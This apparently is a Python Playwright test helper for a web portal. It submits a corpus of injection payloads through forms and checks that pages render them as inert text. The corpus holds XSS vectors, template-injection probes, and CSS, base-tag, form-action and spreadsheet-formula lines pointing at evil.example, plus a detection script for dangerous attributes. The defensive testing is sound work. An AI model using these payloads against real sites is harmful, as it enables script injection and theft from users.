"""Words that would do something where a page takes them for more than words; how a page is searched for their work."""

from playwright.async_api import Locator, Page

from tests.portal.browsers import People

CORPUS = (
    "{{ 1234*567 }}{% raw %}${1234*567}#{1234*567}<%= 1234*567 %>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"><svg/onload=alert(1)>",
    "</textarea></title></script><script>alert(1)</script>",
    "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
    '![a](x" onerror="alert(1)) <javascript:alert(1)>',
    '<a href="JaVaScRiPt:alert(1)" onclick=alert(1)>a</a>',
    "`</code><iframe srcdoc='<script>alert(1)</script>'></iframe>`",
    "<style>*{background:url(//evil.example/x)}</style><base href=//evil.example>",
    "<form action=//evil.example><input name=form_token autofocus onfocus=alert(1)>",
    '=HYPERLINK("//evil.example","a")',
)
WORDS = "\n\n".join(CORPUS)
LINE = " ".join(CORPUS)
"""For fields of one line; cut to what the field takes."""

MARK = "{{ 1234*567 }}"
"""Where this is to be read, the corpus was shown (Markdown takes the star for emphasis); nowhere is it computed."""

_FOUND = """() => [...document.querySelectorAll("*")].flatMap((one) => {
  const leads = ({ name, value }) => ["href", "src", "action", "formaction", "xlink:href"].includes(name)
    && /^\\s*(javascript|data|vbscript):|evil\\.example/i.test(value);
  const acts = ({ name }) => name.startsWith("on") || ["srcdoc", "style"].includes(name);
  const ours = one.tagName === "SCRIPT" && one.src.includes("/static/");
  const foreign = /^(IFRAME|OBJECT|EMBED|BASE|IMG|STYLE|SCRIPT)$/.test(one.tagName) && !ours;
  return foreign || [...one.attributes].some((each) => leads(each) || acts(each)) ? [one.outerHTML.slice(0, 200)] : [];
})"""
_OPEN = (
    "form => { for (let one = form; one; one = one.parentElement) if (one.tagName === 'DETAILS') one.open = true; \
form.querySelectorAll('details').forEach((one) => { one.open = true; }); }"
)
_SEND = "(form, value) => form.requestSubmit(value ? form.querySelector(`button[value=${value}]`) : null)"
_READ = """[document.body.innerText, ...[...document.querySelectorAll("input, textarea")].map((one) => one.value)]
  .join(" ")"""


async def looked_through(page: Page) -> bool:
    """Whether the page shows the corpus; that nothing of it became more than words is asserted."""
    assert await page.evaluate(_FOUND) == [], page.url
    shown = await page.evaluate(_READ)
    assert str(1234 * 567) not in shown, page.url
    return MARK in shown or MARK.replace("*", "") in shown


async def send(
    page: Page, path: str, name: str, values: dict[str, str], *, press: str = "", refused: bool = False
) -> None:
    """Fill in the form of this name and send it, by the button of the value ``press`` where there are several, then
    search the page that answers.
    """
    await page.goto(path)
    form = page.locator(f'form[data-form="{name}"]').first
    await form.evaluate(_OPEN)
    for field, value in values.items():
        await _put(form, field, value)
    async with page.expect_navigation() as going:
        await form.evaluate(_SEND, press)
    answer = await (await going.value).request.response()
    assert answer is not None
    assert (answer.status >= 400) is refused, (
        page.url,
        answer.status,
        await page.locator("main").inner_text(),
    )
    await looked_through(page)


async def _put(form: Locator, name: str, value: str) -> None:
    field = form.locator(f'[name="{name}"]')
    kind = await field.first.evaluate("one => one.type")
    if kind in ("radio", "checkbox"):
        await form.locator(f'[name="{name}"][value="{value}"]').check()
    elif kind == "select-one":
        await field.select_option(value)
    elif kind == "file":
        await field.set_input_files(value)
    else:
        # What a browser keeps people from typing into days and secrets, others send all the same.
        await field.evaluate("one => { if (one.type !== 'textarea') one.type = 'text'; }")
        longest = await field.evaluate("one => one.maxLength")
        await field.fill(value[:longest] if longest > 0 else value)


async def view(people: People, page: Page, paths: list[str]) -> set[str]:
    """Those of the pages that show the corpus."""
    shown = set[str]()
    for path in paths:
        answer = await page.goto(people.base + path)
        assert answer is not None
        assert answer.status < 400, path
        if await looked_through(page):
            shown.add(path)
    return shown
